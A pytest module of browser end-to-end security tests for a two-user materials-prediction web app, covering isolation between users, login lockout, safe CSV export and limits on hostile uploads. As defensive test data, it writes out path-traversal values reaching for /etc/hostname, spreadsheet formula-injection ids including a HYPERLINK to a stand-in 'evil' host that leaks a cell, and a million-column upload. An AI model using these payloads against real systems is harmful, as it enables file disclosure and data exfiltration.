"""Issue 14, items 3, 5, 7, 8, 9 and 10 in a real browser, with alice and bob logged in at once
(``COSNET_AUTH=accounts``): what alice keeps private (a study, its models, a CIF that came with her dataset) never
reaches bob's Results or Predict pages, also not through a study id in the address; a batch's ``../`` structure
paths reach no server file and no message shows a server path; wrong passwords slow down and lock an account and a
disabled user's session ends at their next click; a downloaded CSV neutralises formulas; a hostile upload ends
with a message while the page stays responsive; an infinite amount in a formula names its row.

One app server and one browser serve the whole module (the browser is slow on a loaded machine); the data each
check needs besides the upload it is about is stored directly through ``db``.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from pymatgen.core import Lattice
from pymatgen.core import Structure as PmgStructure
from sqlalchemy import select

from db import audit
from db.engine import dispose_engines, session_scope, upgrade_database
from db.models import Entry, ModelArtifact, Run, Structure, Study
from db.users import create_user, login_delay_s, set_disabled
from tests.browser import headless_chromium, require_browser
from tests.e2e.harness import (
    AppServer,
    alerts,
    choose,
    click_button,
    database_url,
    open_page,
    stop_everything,
    upload,
    wait_for_app,
)
from tests.e2e.test_two_users import PASSWORD, _log_in
from tests.pages.isolation_fixtures import store_dataset
from tests.pages.test_predict_page import trained_artifacts  # noqa: F401  (a module fixture: two tiny models)

pytestmark = [pytest.mark.slow, pytest.mark.browser]
NACL = PmgStructure(Lattice.cubic(5.64), ["Na", "Cl"], [[0, 0, 0], [0.5, 0.5, 0.5]]).to(fmt="cif")


def _store_study(session, version_id: int, owner: str, paths: list[Path]) -> int:
    """A finished two-seed bimodal-aug study of ``owner`` on a version, served by the model files ``paths``."""
    study = Study(name=f"{owner}'s study", dataset_version_id=version_id, modes=["bimodal-aug"], seeds=[0, 1],
                  status="succeeded", created_by=owner)
    session.add(study)
    session.flush()
    for seed, path in enumerate(paths):
        run = Run(study_id=study.id, dataset_version_id=version_id, mode="bimodal-aug", seed=seed,
                  status="succeeded")
        session.add(run)
        session.flush()
        session.add(ModelArtifact(run_id=run.id, path=str(path), sha256="0" * 64, size_bytes=path.stat().st_size))
    return study.id


@pytest.fixture(scope="module")
def lab(tmp_path_factory, trained_artifacts) -> Iterator[dict[str, Any]]:  # noqa: F811
    """One app server over a lab: alice's private dataset with an uploaded CIF and a trained study, bob's dataset
    with his own study, a library CIF, and the accounts carol (for the lockout) and erin (to be disabled)."""
    data_dir = tmp_path_factory.mktemp("lab") / "cosnet-data"
    data_dir.mkdir()
    url = database_url(data_dir)
    upgrade_database(url)
    for name in ("alice", "bob", "carol", "erin"):
        create_user(name, PASSWORD, url=url)
    studies = {}
    for owner in ("alice", "bob"):
        stored = store_dataset(owner, name=f"{owner} salts", url=url)
        with session_scope(url) as session:
            entry = session.scalar(select(Entry).where(Entry.dataset_version_id == stored.version_id).limit(1))
            entry.structure = Structure(source="dataset", external_id=f"{owner}-secret.cif", formula="NaCl",
                                        chemsys="Cl-Na", nsites=2, cif=NACL.replace("data_", f"data_{owner}"),
                                        content_hash=owner[0] * 64, created_by=owner)
            studies[owner] = _store_study(session, stored.version_id, owner, trained_artifacts)
    with session_scope(url) as session:
        session.add(Structure(source="library", external_id="lab-NaCl.cif", formula="NaCl", chemsys="Cl-Na",
                              nsites=2, cif=NACL, content_hash="1" * 64, in_library=True))
    dispose_engines()
    server = AppServer(data_dir, env={"COSNET_AUTH": "accounts"}, name="two-users-hostile")
    server.start()
    try:
        yield {"url": server.url, "db": url, "studies": studies, "folder": data_dir.parent}
    finally:
        stop_everything(data_dir, server)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """One headless Chromium for the module (each user gets a context of their own)."""
    require_browser()
    with headless_chromium() as launched:
        yield launched


@pytest.fixture(scope="module")
def bob(lab, browser):
    """bob, logged in once for the module."""
    context = browser.new_context()
    yield _log_in(context, lab["url"], "bob")
    context.close()


@pytest.fixture(scope="module")
def alice(lab, browser):
    """alice, logged in once for the module."""
    context = browser.new_context()
    yield _log_in(context, lab["url"], "alice")
    context.close()


def _options(page, label: str) -> list[str]:
    """The options an ``st.selectbox`` offers (opened, read, closed)."""
    box = page.get_by_role("combobox", name=label, exact=True).first
    box.click()
    page.get_by_role("option").first.wait_for(timeout=20_000)
    texts = page.get_by_role("option").all_inner_texts()
    page.keyboard.press("Escape")
    return texts


def _download(page, button: str) -> pd.DataFrame:
    """Click a download button and read the CSV the browser saved."""
    with page.expect_download(timeout=60_000) as info:
        page.get_by_role("button", name=button).first.click()
    return pd.read_csv(info.value.path(), encoding="utf-8-sig", dtype=str, keep_default_na=False)


def _predict_table(page, folder: Path, table: str, cif_zip: dict[str, str] | None = None) -> pd.DataFrame:
    """On Predict, upload a table (and a zip of CIFs) in the batch tab, predict it, return the downloaded CSV."""
    import zipfile

    open_page(page, "Predict")
    page.get_by_role("tab", name="A table of materials").click()
    path = folder / "batch.csv"
    path.write_text(table)
    upload(page, "Table", path)
    if cif_zip is not None:
        archive = folder / "batch.zip"
        with zipfile.ZipFile(archive, "w") as handle:
            for name, text in cif_zip.items():
                handle.writestr(name, text)
        upload(page, "CIF zip", archive)
        choose(page, "Structure file column (optional)", "cif")
    click_button(page, "Predict the table")
    return _download(page, "Download predictions as CSV")


def test_item3_an_address_naming_a_page_and_a_study_asks_for_a_login_and_shows_none_of_alices(lab, browser):
    # On a freshly started server (nobody has logged in yet) Streamlit runs the file of pages/ that the address
    # names, without app.py's login gate; its query string reaches the page after the login.
    alice_study, bob_study = lab["studies"]["alice"], lab["studies"]["bob"]
    page = browser.new_context().new_page()
    for path, title in (("/admin", "Admin"), ("/datasets", "Datasets"), ("/predict", "Predict")):
        page.goto(lab["url"] + path)
        page.wait_for_selector("text=Log in", timeout=120_000)
        wait_for_app(page)
        assert page.get_by_role("textbox", name="Password").count() == 1, path
        assert page.locator(f"h1:has-text('{title}')").count() == 0, path
        assert page.locator("[data-testid=stFileUploader]").count() == 0, path
    page.context.close()

    linked = _log_in(browser.new_context(), lab["url"], "bob", path=f"/results?study={alice_study}",
                     title="Results")
    assert f"study={alice_study}" in linked.url  # the id did reach the page
    study = linked.get_by_role("combobox", name="Study", exact=True).first.input_value()
    assert study.startswith(f"#{bob_study} bob's study"), study
    assert "alice" not in linked.locator("[data-testid=stMain]").inner_text()
    assert not any("alice" in o for o in _options(linked, "Study"))
    linked.context.close()


def test_item3_bob_sees_no_model_or_uploaded_cif_of_alice_on_predict(lab, bob):
    open_page(bob, "Predict")
    models = _options(bob, "Model")
    assert any("bob's study" in m for m in models) and not any("alice" in m for m in models)
    box = bob.get_by_role("textbox", name="Formula")
    box.fill("NaCl")
    box.press("Enter")
    wait_for_app(bob)
    bob.get_by_text("from the structure library").click()
    wait_for_app(bob)
    library = _options(bob, "Structure")
    assert sorted(o.split(" (")[0] for o in library) == ["bob-secret.cif", "lab-NaCl.cif"]


@pytest.fixture(scope="module")
def bob_batch(lab, bob, tmp_path_factory) -> dict[str, Any]:
    """bob predicts one hostile batch on Predict (one browser round trip for items 5 and 8): rows whose structure
    column climbs out of the zip (an absolute path, ``../`` to a server-side CIF, ``../`` to /etc) and ids that
    a spreadsheet would run as formulas."""
    folder = tmp_path_factory.mktemp("batch")
    secret = folder / "server-side.cif"  # a readable CIF on the server, outside any upload
    secret.write_text(NACL)
    climb = "../" * 12
    table = (f"name,formula,cif\nok,NaCl,nacl.cif\nabs,NaCl,{secret}\nup,NaCl,{climb}{str(secret).lstrip('/')}\n"
             f"etc,NaCl,{climb}etc/hostname\n"
             '"=HYPERLINK(""http://evil/?""&A1)",NaCl,nacl.cif\n+1+2,KBr,\n-2+3,NaCl,\n@SUM(A1),KBr,\n')
    result = _predict_table(bob, folder, table, {"nacl.cif": NACL})
    return {"result": result, "page": bob.locator("[data-testid=stMain]").inner_text(),
            "warnings": alerts(bob, "Warning"), "folder": str(folder)}


def test_item5_batch_structure_paths_cannot_leave_the_zip(bob_batch):
    result = bob_batch["result"].set_index("id")
    assert result.loc["ok", "has_structure"] == "True" and result.loc["ok", "prediction"] != ""
    for row in ("abs", "up", "etc"):
        assert result.loc[row, "prediction"] == "", row  # refused, not predicted with the server's file
        assert "not a file name inside the structures folder" in result.loc[row, "reason"], row
    shown = bob_batch["page"] + " ".join(result["reason"])
    assert bob_batch["folder"] not in shown and "cosnet-predict-" not in shown and "/etc/" not in shown
    assert any("3 row(s) could not be predicted" in w for w in bob_batch["warnings"])


def test_item7_wrong_passwords_slow_down_and_lock_and_disabling_ends_a_session(lab, browser, bob):
    with session_scope(lab["db"]) as session:  # carol has already failed four times in a row
        for _ in range(4):
            audit.record(session, "login_failed", "carol")
    page = browser.new_context().new_page()
    page.goto(lab["url"])
    page.wait_for_selector("text=Log in", timeout=120_000)

    def attempt(password: str) -> tuple[float, list[str]]:
        page.get_by_role("textbox", name="User name").fill("carol")
        page.get_by_role("textbox", name="Password").fill(password)
        started = time.monotonic()
        page.get_by_role("button", name="Log in").click()
        page.wait_for_timeout(300)
        wait_for_app(page)
        return time.monotonic() - started, alerts(page, "Error")

    seconds, errors = attempt("wrong-password-again")
    assert seconds >= login_delay_s(4) > 0 and errors  # the fifth attempt waited 4 s before it failed
    _, errors = attempt(PASSWORD)  # the right password, too late
    assert any("Too many failed logins" in e for e in errors), errors
    assert page.get_by_role("textbox", name="User name").count() == 1  # still at the login form
    page.context.close()

    erin = _log_in(browser.new_context(), lab["url"], "erin")
    set_disabled("erin", True, url=lab["db"], by="root")
    erin.locator("[data-testid=stSidebarNavLink]", has_text="Results").first.click()  # erin's next click
    erin.wait_for_selector("text=Log in", timeout=120_000)
    wait_for_app(erin)
    assert any("disabled" in e for e in alerts(erin, "Error"))
    assert erin.get_by_role("textbox", name="User name").count() == 1
    erin.context.close()


def test_item8_downloaded_predictions_neutralise_formula_cells(bob_batch):
    result = bob_batch["result"]
    hostile = result[~result["id"].isin(["ok", "abs", "up", "etc"])]
    assert sorted(hostile["id"]) == sorted(["'=HYPERLINK(\"http://evil/?\"&A1)", "'+1+2", "'-2+3", "'@SUM(A1)"])
    assert all(float(v) == float(v) for v in hostile["prediction"])  # predicted; numbers stay numbers (no quote)


def test_item9_a_million_columns_end_in_a_message_and_both_pages_answer(lab, alice, bob, tmp_path):
    wide = tmp_path / "wide.csv"
    wide.write_bytes((",".join(f"c{i}" for i in range(1_000_000)) + "\n" + ",".join("1" * 1_000_000) + "\n").encode())
    open_page(alice, "Datasets")
    started = time.monotonic()
    upload(alice, "Table of measurements", wide)
    errors = alerts(alice, "Error")
    assert any("more than the limit of 1,000" in e for e in errors), errors
    assert time.monotonic() - started < 60  # unbounded: the page hung for minutes
    open_page(bob, "Results")  # the server still answers the other user
    open_page(alice, "Results")  # and alice's own page


def test_item10_an_infinite_amount_names_its_row_without_a_traceback(lab, alice, tmp_path):
    table = tmp_path / "amounts.csv"
    table.write_text("formula,target\nH1e400,1.0\nLiF,2.5\nNaCl,3.5\n")
    open_page(alice, "Datasets")
    upload(alice, "Table of measurements", table)
    assert alice.locator("[data-testid=stException]").count() == 0
    assert alerts(alice, "Error") == []
    assert "2 would be kept" in alice.locator("[data-testid=stMain]").inner_text()
    unused = _download(alice, "Download these rows with their reasons (CSV)")
    assert list(unused["formula"]) == ["H1e400"]
    assert "the amount 1e400 is outside" in unused["reason"][0]
    assert unused["row"][0] == "2"  # the file's line of the row
